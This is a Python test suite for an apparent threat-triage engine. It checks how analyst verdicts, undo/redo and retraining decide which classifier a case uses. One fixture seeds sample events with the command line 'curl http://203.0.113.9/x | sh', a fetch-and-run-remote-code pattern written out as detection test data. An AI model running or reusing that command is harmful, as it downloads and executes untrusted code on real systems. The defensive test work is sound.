"""Which classifier a case uses is a function of the verdicts that hold: undo retires what was taught with what it takes back."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from contextlib import closing
from dataclasses import fields
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.domain.verdicts import VERDICTS
from engine.errors import ModelError
from engine.jobs.relearn import prepare, relearn
from engine.progress import Run
from engine.verdicts.queue import LearntQueue
from store.base.database import DATABASE
from store.narrow.record_names import RecordName, locate
from store.scope.scopes import Scope, parse
from store.verdicts.subject import OfFinding, OfProcess, OfVariant, Subject
from store.workspace import Workspace, open_workspace
from tests.postgres import in_a_file
from tests.store import samples
from tests.store.older import make_older
from tests.store.teaching_samples import read_learnt, said_of_variants, teaching_of

FIGURES = {"held_back": 40.0, "malicious": 15.0, "malicious_findings": 12.0, "other_findings": 20.0}
JUDGED = {"decision": {"accepted": True, "figures": FIGURES}}


def classifier(workspace: Workspace, mark: int, more: dict[str, Any] | None = None) -> str:
    stage = workspace.vault.stage()
    (stage / "mark.json").write_text(str(mark))
    return workspace.vault.publish(stage, {"kind": "classifier", "seed": mark} | (JUDGED if more is None else more))


def teach(workspace: Workspace, mark: int, case: str = "case") -> tuple[str, dict[tuple[str, int], str]]:
    """What the job does, without the LSTM: taught with what holds now, then in use."""
    taught = teaching_of(workspace, case)
    model = classifier(workspace, mark)
    assert workspace.vault.adopt(case, model, {name: (said, 0.5) for name, said in taught.items()})
    return model, taught


def in_use(workspace: Workspace, case: str = "case") -> str | None:
    return workspace.vault.in_use(case, "classifier")


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[list[Workspace], list[str]]]:
    """Twelve chains on two hosts, one with two kinds of command lines, scored; the workspace opened twice."""
    space = open_workspace(tmp_path_factory.mktemp("taught") / "w")
    events = [samples.event(1), samples.event(1, host="DB"), samples.event(40, 1, host="DB", image="C:\\Apps\\only.exe")]
    events += [samples.event(n, 1, image=f"C:\\Apps\\a{n}.exe") for n in range(2, 12)]
    events += [
        samples.event(50 + n, 1, image="C:\\Apps\\a2.exe", command_line="curl http://203.0.113.9/x | sh") for n in range(3)
    ]
    samples.fill(space, events)
    samples.score(space, grouped=True)
    other = open_workspace(space.folder)
    yield [space, other], list(space.chains.load_corpus(["case"]).keys)
    other.close()
    space.close()


def forget(workspace: Workspace) -> None:
    with workspace.write() as connection:
        for table in ("label_event", "label_current", "process_verdict", "classifier_use", "learnt_queue"):
            connection.exec_driver_sql(f"DELETE FROM {table}")
        connection.exec_driver_sql("DELETE FROM model WHERE kind = 'classifier'")
        connection.commit()


acts = st.lists(
    st.one_of(
        st.tuples(
            st.lists(st.integers(0, 11), min_size=1, max_size=5, unique=True),
            st.sampled_from([None, "malicious", "benign", "false_positive", "undetermined"]),
            st.sampled_from([Scope(), Scope(), Scope(host="DB"), Scope(prefix=1)]),
        ),
        st.tuples(st.sampled_from(["process", "variant", "finding"]), st.integers(0, 30), st.sampled_from([None, *VERDICTS])),
        st.sampled_from(["undo", "undo", "redo", "train", "train", "restart"]),
    ),
    min_size=2,
    max_size=14,
)


@pytest.fixture
def unlearnt(monkeypatch: pytest.MonkeyPatch) -> None:
    """The queue as a classifier would make it, which says of a chain what its seed says: another one, another order."""
    from engine.classifier.model import Classifier
    from engine.verdicts.verdicts import Remembered

    class Fake:
        def __init__(self, seed: int) -> None:
            self.seed = seed

        def log_odds(self, _base: Any, features: Any, *_rest: Any) -> Any:
            return np.random.default_rng(self.seed).normal(size=len(features))

        def remembered(self, origin: str) -> Remembered:
            return Remembered()

    monkeypatch.setattr(Classifier, "load", lambda folder: Fake(int((folder / "mark.json").read_text())))


def learn(workspace: Workspace) -> LearntQueue | None:
    prepared = prepare("case", workspace.teaching, workspace.vault, Run())
    relearn("case", workspace.teaching, prepared, Run())
    return read_learnt(workspace, "case")


def process_of(workspace: Workspace, name: RecordName) -> int:
    """The process of a record."""
    with workspace.read() as connection:
        return locate(connection, 1, [name])[name]


def subject(workspace: Workspace, kind: str, number: int) -> Subject:
    """What a verdict narrower than a chain is on."""
    base = workspace.teaching.load_queue("case")
    variants, recorded = base.variants, base.table.row[base.table.recorded > 0] if base.table is not None else []
    if kind == "process":
        return OfProcess(int(recorded[number % len(recorded)]))
    if kind == "variant":
        row = number % len(variants)
        return OfVariant(base.corpus.keys[variants.chain[row]], int(variants.shape[row]))
    return OfFinding(1 + number % len(base.finding_score))


@pytest.mark.usefixtures("unlearnt")
@settings(max_examples=25, deadline=None)
@given(history=acts)
def test_any_history_leaves_what_replaying_the_effective_verdicts_leaves(
    shared: tuple[list[Workspace], list[str]], history: list[Any]
) -> None:
    """Same classifier in use, same queue: of verdicts, trainings, undos and redos only what holds in the end counts."""
    (workspace, other), keys = shared
    forget(workspace)
    trained: list[tuple[str, dict[tuple[str, int], str]]] = []
    for act in history:
        if act == "train":
            trained.append(teach(workspace, len(trained)))
        elif act == "restart":
            workspace, other = other, workspace
        elif isinstance(act, str):
            getattr(workspace.labels, act)("case")
        elif isinstance(act[0], str):
            workspace.labels.give("case", subject(workspace, *act[:2]), act[2], overwrite=True)
        else:
            places, verdict, scope = act
            chosen = [keys[place] for place in places]
            workspace.labels.set("case", chosen, verdict, scope=scope)
        now = said_of_variants(workspace)
        standing = [model for model, taught in trained if taught.items() <= now.items()]
        assert in_use(workspace) == (standing[-1] if standing else None)
    held = workspace.labels.current("case")
    found = learn(workspace)
    alive = [(number, model) for number, (model, _) in enumerate(trained) if model == in_use(workspace)]
    forget(workspace)
    for label in held:
        scope = parse(label.scope)
        if scope.process is None:
            workspace.labels.set("case", [label.chain_key], label.verdict, scope=scope)
        else:
            workspace.labels.give("case", OfProcess(process_of(workspace, scope.process)), label.verdict, overwrite=True)
    if alive:
        teach(workspace, alive[-1][0])
    again = learn(workspace)
    assert (found is None) == (again is None)
    for field in fields(LearntQueue) if found is not None else ():
        if field.name not in {"event", "classifier"}:  # numbers of events and ids of models are others
            ours, theirs = getattr(found, field.name), getattr(again, field.name)
            same = np.array_equal(ours, theirs, equal_nan=True) if isinstance(ours, np.ndarray) else ours == theirs
            assert same, field.name


@pytest.fixture
def scored(workspace: Workspace) -> tuple[Workspace, list[str]]:
    samples.fill(workspace, [samples.event(1), *[samples.event(n, 1, image=f"C:\\Apps\\a{n}.exe") for n in range(2, 40)]])
    samples.score(workspace, grouped=True)
    keys = [row.key for row in workspace.queue.page("case")]
    workspace.labels.set("case", keys[:12], "malicious")
    workspace.labels.set("case", keys[12:30], "benign")
    return workspace, keys


def test_a_verdict_that_is_taken_back_while_a_classifier_is_trained_keeps_it_out_of_use(
    scored: tuple[Workspace, list[str]],
) -> None:
    workspace, keys = scored
    taught = {name: (said, 0.1) for name, said in teaching_of(workspace).items()}
    model = classifier(workspace, 1)
    workspace.labels.set("case", keys[:1], "benign")
    assert not workspace.vault.adopt("case", model, taught)
    assert in_use(workspace) is None
    workspace.labels.undo("case")
    assert in_use(workspace) == model
    assert dict(workspace.vault.taught_with("case", model)) == taught


def test_a_classifier_is_retired_in_every_case_that_uses_it(scored: tuple[Workspace, list[str]]) -> None:
    workspace, _ = scored
    samples.fill(workspace, [samples.event(1), samples.event(2, 1)], case="other", path="o", sha256="c" * 64)
    model, _ = teach(workspace, 1)
    workspace.vault.use("other", model, "classifier")
    workspace.labels.undo("case")
    assert (in_use(workspace), in_use(workspace, "other")) == (None, None)
    workspace.labels.redo("case")
    assert (in_use(workspace), in_use(workspace, "other")) == (model, model)
    workspace.cases.remove("case")  # its verdicts go with it, and nobody took one back
    assert in_use(workspace, "other") == model


def test_a_classifier_that_would_move_nothing_is_not_given_by_hand(scored: tuple[Workspace, list[str]]) -> None:
    workspace, keys = scored
    first, _ = teach(workspace, 1)
    workspace.labels.set("case", keys[30:33], "malicious")
    second, _ = teach(workspace, 2)
    workspace.labels.undo("case")
    assert in_use(workspace) == first
    with pytest.raises(ModelError, match="taught with 3 verdicts that were taken back"):
        workspace.vault.use("case", second, "classifier")
    few = classifier(workspace, 3, {"decision": {"figures": FIGURES | {"malicious_findings": 4.0, "other_findings": 6.0}}})
    with pytest.raises(ModelError, match="not yet trusted: 4 of 10 malicious and 6 of 10 not malicious findings"):
        workspace.vault.use("case", few, "classifier")
    old = classifier(workspace, 4, {"decision": {"figures": {"held_back": 900.0, "malicious": 450.0}}})  # counted by chain
    with pytest.raises(ModelError, match="not yet trusted: 0 of 10 malicious"):
        workspace.vault.use("case", old, "classifier")
    assert in_use(workspace) == first


def test_the_one_before_comes_back_when_a_classifier_is_removed(scored: tuple[Workspace, list[str]]) -> None:
    workspace, _ = scored
    first, _ = teach(workspace, 1)
    second, _ = teach(workspace, 2)
    workspace.vault.remove(second, force=True)
    assert in_use(workspace) == first


def test_an_ingest_that_takes_a_chain_away_takes_no_verdict_back(scored: tuple[Workspace, list[str]]) -> None:
    workspace, keys = scored
    model, _ = teach(workspace, 1)
    with workspace.write() as connection:
        connection.exec_driver_sql("DELETE FROM chain WHERE key = ?", (keys[0],))
        connection.commit()
    workspace.labels.set("case", keys[1:2], "benign")
    assert in_use(workspace) is None
    workspace.labels.undo("case")
    assert in_use(workspace) == model


@in_a_file
@pytest.mark.parametrize("after", ["nothing", "a new one", "another", "taken back"])
def test_a_classifier_of_an_older_version_is_traced_through_the_history(scored: tuple[Workspace, list[str]], after: str) -> None:
    workspace, keys = scored
    event = workspace.teaching.label_event("case")
    old = classifier(workspace, 1, JUDGED | {"cases": ["case"], "label_event": event})
    elsewhere = classifier(workspace, 2, JUDGED | {"cases": ["far"], "label_event": 1})
    samples.fill(workspace, [samples.event(1), samples.event(2, 1)], case="other", path="o", sha256="c" * 64)
    if after == "a new one":
        workspace.labels.set("case", keys[30:31], "malicious")
    elif after == "another":
        workspace.labels.set("case", keys[:1], "benign")
    elif after == "taken back":
        workspace.labels.undo("case")
    workspace.close()
    with closing(sqlite3.connect(workspace.folder / DATABASE)) as connection:
        make_older(connection, "0007_delivered")
        for case, model in (("case", old), ("other", elsewhere)):
            query = "INSERT INTO model_use SELECT id, 'classifier', ?, 1 FROM cases WHERE name = ?"
            connection.execute(query, (model, case))
        connection.commit()
    again = open_workspace(workspace.folder)
    kept = after in {"nothing", "a new one"}
    assert in_use(again) == (old if kept else None)
    assert in_use(again, "other") == elsewhere
    if kept:
        again.labels.set("case", keys[:1], "undetermined")
        assert in_use(again) is None
    again.close()
